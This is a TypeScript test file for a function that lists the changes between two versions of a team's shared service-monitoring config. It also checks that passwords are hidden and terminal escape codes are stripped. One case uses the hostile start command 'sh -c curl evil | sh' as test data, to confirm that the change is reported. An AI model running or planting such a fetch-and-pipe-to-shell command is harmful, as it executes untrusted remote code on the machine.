import { describe, expect, it } from 'vitest';
import { SHARES_NOTHING, type Shared, teamChanges } from '../../../electron/config/team-changes.ts';
import { parseUserText } from '../../../electron/config/user-file.ts';

const read = (text: string): Shared => parseUserText(text, 'x');
const changes = (before: string, after: string) => teamChanges(read(before), read(after));
const QUEUE = 'services:\n  - { id: queue, kind: tcp, at: "localhost:5672", neededBy: [backend] }\n';

describe('what differs between two texts of a team’s file', () => {
  it('is nothing where both mean the same: comments, order, how it is written', () => {
    const [a, b] = ['{ id: a, kind: tcp, at: "localhost:1" }', '{ id: b, kind: tcp, at: "localhost:2" }'];
    expect(
      changes(
        `services: [${a}, ${b}]\ncadence.backend: 5000\n`,
        `# ours\ncadence: { backend: 5000 }\nservices:\n  - ${b}\n  - ${a}\n`,
      ),
    ).toEqual([]);
    expect(
      changes(
        'thresholds.redis.memory: { warning: 8, critical: 9 }\n',
        'thresholds.redis: { memory: { critical: 9, warning: 8 } }\n',
      ),
    ).toEqual([]);
    expect(changes('', '# nothing yet\n')).toEqual([]);
  });

  it.each<[string, string, string, readonly string[]]>([
    [
      'a service that comes',
      'cadence.backend: 5000\n',
      `cadence.backend: 5000\n${QUEUE}`,
      ['service queue added: tcp, at localhost:5672, needed by backend'],
    ],
    [
      'one that goes',
      `cadence.backend: 5000\n${QUEUE}`,
      'cadence.backend: 5000\n',
      ['service queue removed (tcp, at localhost:5672, needed by backend)'],
    ],
    [
      'another address',
      QUEUE,
      QUEUE.replace('localhost:5672', 'elsewhere.example:5672'),
      ['queue.at: localhost:5672 → elsewhere.example:5672'],
    ],
    [
      'another kind',
      QUEUE,
      QUEUE.replace('tcp', 'redis').replace('localhost:', 'redis://localhost:'),
      [
        'service queue: tcp → redis',
        'queue.at not set any more (localhost:5672)',
        'queue.url set: redis://localhost:5672',
      ],
    ],
    ['who needs it', QUEUE, QUEUE.replace('[backend]', '[]'), ['service queue: needed by backend → nobody']],
    [
      'a limit',
      'thresholds.backend.p95: { warning: 1, critical: 9 }\n',
      'thresholds.backend.p95: { warning: 2, critical: 9 }\n',
      ['limit backend.p95: warning 1 ms → 2 ms'],
    ],
    [
      'a limit that comes',
      QUEUE,
      `${QUEUE}thresholds.backend.p95: { critical: 9 }\n`,
      ['limit backend.p95 set: critical 9 ms'],
    ],
    [
      'a limit that goes',
      `${QUEUE}thresholds.backend.p95: { critical: 9 }\n`,
      QUEUE,
      ['limit backend.p95 not set any more (critical 9 ms)'],
    ],
    ['how often it is asked', 'cadence.backend: 1000\n', 'cadence.backend: 60000\n', ['cadence.backend: 1000 → 60000']],
    [
      'what starts a service',
      `${QUEUE}queue.start: [redis-server]\n`,
      `${QUEUE}queue.start: [sh, -c, "curl evil | sh"]\n`,
      ['queue.start: redis-server → sh -c curl evil | sh'],
    ],
    ['whether it is watched', QUEUE, `${QUEUE}queue.enabled: false\n`, ['queue.enabled set: false']],
  ])('names %s', (_, before, after, told) => expect(changes(before, after)).toEqual(told));

  it('beside nothing is a list of all that is shared', () => {
    expect(
      teamChanges(SHARES_NOTHING, read(`${QUEUE}thresholds.queue.connect: { warning: 5 }\ncadence.backend: 5000\n`)),
    ).toEqual([
      'service queue: tcp, at localhost:5672, limit connect warning 5 ms, needed by backend',
      'cadence.backend: 5000',
    ]);
  });

  it('names no password, neither in an address nor by itself, and says that one changed', () => {
    const shop = (password: string) =>
      `services:\n  - { id: shop, kind: neo4j, at: "bolt://u:${password}-in-address@localhost:7687", password: "${password}-alone" }\n`;
    const told = [
      ...teamChanges(SHARES_NOTHING, read(shop('geheim'))),
      ...changes(shop('geheim'), shop('secreto')),
      ...changes(shop('geheim'), QUEUE),
    ].join('\n');
    expect(told).not.toMatch(/geheim|secreto/);
    expect(told).toContain('shop.password changed');
    expect(told).toContain('password (not shown)');
  });

  it('says nothing that would do something to a terminal, and cuts what is endless', () => {
    const [told = ''] = teamChanges(
      SHARES_NOTHING,
      read(`services:\n  - { id: a, kind: tcp, at: "lo\\e[2J\\u202ehost:1", start: [x, "${'y'.repeat(5000)}"] }\n`),
    );
    expect(told).toContain('at lohost:1');
    expect(told.length).toBeLessThan(600);
  });
});
